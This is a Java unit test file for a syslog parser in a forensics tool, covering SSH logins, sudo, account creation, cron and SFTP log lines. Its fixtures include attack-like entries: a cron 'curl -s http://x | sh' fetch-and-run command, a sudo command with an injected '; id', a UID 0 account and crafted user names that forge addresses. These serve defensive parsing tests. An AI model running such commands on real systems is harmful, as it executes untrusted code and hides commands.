package org.evenkeel.forensics.format.syslog;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Random;
import org.evenkeel.forensics.event.Event;
import org.evenkeel.forensics.event.Field;
import org.evenkeel.forensics.event.Kind;
import org.evenkeel.forensics.event.Row;
import org.evenkeel.forensics.format.LineReader;
import org.evenkeel.forensics.format.Reading;
import org.evenkeel.forensics.format.Setting;
import org.junit.jupiter.api.Test;

class SyslogFormatTest {
  private final LineReader reader =
      new SyslogFormat().reader(Setting.utc(Instant.parse("2026-11-24T00:00:00Z")));

  @Test
  void aFailedPasswordTellsWhoWhenceAndWhen() {
    Event event =
        read(
            "Nov 22 03:11:12 shop sshd[4711]: Failed password for invalid user admin from"
                + " 203.0.113.7 port 40123 ssh2");

    assertThat(event.kind()).isEqualTo(Kind.SSH);
    assertThat(micros(event)).isEqualTo(Instant.parse("2026-11-22T03:11:12Z"));
    assertThat(event.fields())
        .containsEntry(Field.ACTION, "LOGIN_FAILED")
        .containsEntry(Field.USER, "admin")
        .containsEntry(Field.CLIENT_IP, "203.0.113.7")
        .containsEntry(Field.CLIENT_PORT, "40123")
        .containsEntry(Field.AUTH_METHOD, "password")
        .containsEntry(Field.SERVER_NAME, "shop")
        .containsEntry(Field.PROCESS, "sshd")
        .containsEntry(Field.PID, "4711");
  }

  @Test
  void aCraftedUserNameForgesNoAddress() {
    Event event =
        read(
            "Nov 22 03:11:12 shop sshd[4711]: Failed password for invalid user x from 198.51.100.1"
                + " port 22 ssh2 from 203.0.113.7 port 40123 ssh2");

    assertThat(event.fields())
        .containsEntry(Field.CLIENT_IP, "203.0.113.7")
        .containsEntry(Field.USER, "x from 198.51.100.1 port 22 ssh2");
  }

  @Test
  void anAcceptedKeyTellsItsFingerprint() {
    Event event =
        read(
            "2026-11-22T09:00:01.500000+01:00 shop sshd-session[5001]: Accepted publickey for"
                + " deploy from 2001:db8::5 port 51234 ssh2: ED25519 SHA256:abc");

    assertThat(micros(event)).isEqualTo(Instant.parse("2026-11-22T08:00:01.5Z"));
    assertThat(event.fields())
        .containsEntry(Field.ACTION, "LOGIN_OK")
        .containsEntry(Field.CLIENT_IP, "2001:db8::5")
        .containsEntry(Field.AUTH_METHOD, "publickey")
        .containsEntry(Field.FINGERPRINT, "SHA256:abc");
  }

  @Test
  void foldedRepeatsStandForAllOfThem() {
    Event event =
        read(
            "Nov 22 03:11:12 shop sshd[4711]: message repeated 5 times: [ Failed password for root"
                + " from 203.0.113.7 port 40123 ssh2]");

    assertThat(event.fields())
        .containsEntry(Field.REPEATS, "5")
        .containsEntry(Field.ACTION, "LOGIN_FAILED")
        .containsEntry(Field.CLIENT_IP, "203.0.113.7");
  }

  @Test
  void aDisconnectsReasonIsNotBelieved() {
    Event event =
        read(
            "Nov 22 03:11:12 shop sshd[4711]: Received disconnect from 203.0.113.7 port 40123:11:"
                + " Bye from 198.51.100.1 port 1 [preauth]");

    assertThat(event.fields())
        .containsEntry(Field.ACTION, "DISCONNECT")
        .containsEntry(Field.CLIENT_IP, "203.0.113.7");
  }

  @Test
  void sudoTellsWhoRanWhatAsWhom() {
    Event event =
        read(
            "Nov 22 09:01:01 shop sudo:     anna : TTY=pts/0 ; PWD=/tmp ; USER=root ;"
                + " COMMAND=/usr/bin/apt update ; id");

    assertThat(event.kind()).isEqualTo(Kind.ACCOUNT);
    assertThat(event.fields())
        .containsEntry(Field.ACTION, "COMMAND_RUN")
        .containsEntry(Field.USER, "anna")
        .containsEntry(Field.TARGET_USER, "root")
        .containsEntry(Field.COMMAND, "/usr/bin/apt update ; id");
  }

  @Test
  void sudoThatRefusedIsDenied() {
    Event event =
        read(
            "Nov 22 03:50:01 shop sudo:   backup : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ;"
                + " USER=root ; COMMAND=/bin/bash");

    assertThat(event.fields()).containsEntry(Field.ACTION, "COMMAND_DENIED");
  }

  @Test
  void aNewAccountIsToldByName() {
    Event event =
        read(
            "<86>1 2026-11-22T04:00:01Z shop useradd 5200 - [a@1 b=\"x]y\"] new user: name=support,"
                + " UID=0, GID=0");

    assertThat(event.fields())
        .containsEntry(Field.ACTION, "USER_CREATED")
        .containsEntry(Field.TARGET_USER, "support")
        .containsEntry(Field.PID, "5200");
  }

  @Test
  void aScheduledJobTellsItsCommand() {
    Event event = read("Nov 22 04:05:01 shop CRON[5300]: (www-data) CMD (curl -s http://x | sh)");

    assertThat(event.kind()).isEqualTo(Kind.CRON);
    assertThat(event.fields())
        .containsEntry(Field.USER, "www-data")
        .containsEntry(Field.COMMAND, "curl -s http://x | sh");
  }

  @Test
  void aTransferIsToldWhenItsFileIsClosed() {
    Event event =
        read("Nov 22 04:05:01 shop internal-sftp[9]: close \"/x.php\" bytes read 0 written 1044");

    assertThat(event.kind()).isEqualTo(Kind.FTP);
    assertThat(event.fields())
        .containsEntry(Field.ACTION, "UPLOAD")
        .containsEntry(Field.FILE, "/x.php")
        .containsEntry(Field.BYTES_RECEIVED, "1044");
  }

  @Test
  void timesWithoutAYearLieInThePast() {
    assertThat(micros(read("Dec 31 23:59:59 shop su: x")))
        .isEqualTo(Instant.parse("2025-12-31T23:59:59Z"));
    assertThat(micros(read("Feb 29 00:00:00 shop su: x")))
        .isEqualTo(Instant.parse("2024-02-29T00:00:00Z"));
    assertThat(micros(read("Thu Feb 10 2018 00:15:02 www1 su: x")))
        .isEqualTo(Instant.parse("2018-02-10T00:15:02Z"));
  }

  @Test
  void linesOfOtherLogsAreNotTaken() {
    assertThat(reading("203.0.113.7 - - [01/Mar/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5"))
        .isEqualTo(Reading.UNREADABLE);
    assertThat(reading("[Thu Nov 22 10:00:00.1 2026] [core:error] [pid 1] x"))
        .isEqualTo(Reading.UNREADABLE);
    assertThat(reading("")).isEqualTo(Reading.SILENT);
  }

  @Test
  void aUserMayBeNamedLikeTheProtocol() {
    Event event =
        read("Nov 22 03:11:12 shop sshd[4711]: Failed password for ssh2 from 203.0.113.7 port 4");

    assertThat(event.fields())
        .containsEntry(Field.USER, "ssh2")
        .containsEntry(Field.CLIENT_IP, "203.0.113.7");
  }

  @Test
  void aMessageGoesOnInLinesThatBeginWithATab() {
    assertThat(reading("\t\tpath=\"/x\"")).isEqualTo(Reading.SILENT);
    assertThat(read("Apr 4 03:39:57 --- last message repeated 1 time ---").fields())
        .containsEntry(Field.MESSAGE, "--- last message repeated 1 time ---");
  }

  @Test
  void aTimeAndAColonMakeNoSyslog() {
    assertThat(reading("2025-08-13 01:45:01.123 PDT [12345] LOG:  starting"))
        .isEqualTo(Reading.UNREADABLE);
    assertThat(reading("2025-01-24T07:00:30,139 INFO [main ] Version    : HV000001"))
        .isEqualTo(Reading.UNREADABLE);
    assertThat(read("Dec 13 11:38:45 mac Google Chrome[21]: hello").fields())
        .containsEntry(Field.PROCESS, "Google Chrome");
  }

  @Test
  void nothingThatIsWrittenIntoALineThrows() {
    String line =
        "<1>Nov 22 03:11:12 shop sshd[4711]: Failed password for x from 203.0.113.7 port 4 ssh2: a";
    Random random = new Random(3);
    for (int round = 0; round < 20_000; round++) {
      byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
      for (int change = 0; change < 4; change++) {
        bytes[random.nextInt(bytes.length)] =
            (byte) (random.nextInt(3) == 0 ? ' ' : random.nextInt());
      }
      Row row = new Row();
      row.start(bytes, random.nextInt(20), bytes.length - random.nextInt(60));
      assertThat(reader.read(row)).isNotNull();
    }
  }

  private Event read(String line) {
    Row row = row(line);
    assertThat(reader.read(row)).as(line).isEqualTo(Reading.EVENT);
    return Event.of(row, text -> text);
  }

  private Reading reading(String line) {
    return reader.read(row(line));
  }

  private static Row row(String line) {
    byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
    Row row = new Row();
    row.start(bytes, 0, bytes.length);
    return row;
  }

  private static Instant micros(Event event) {
    return Instant.ofEpochSecond(0, event.time() * 1000);
  }
}
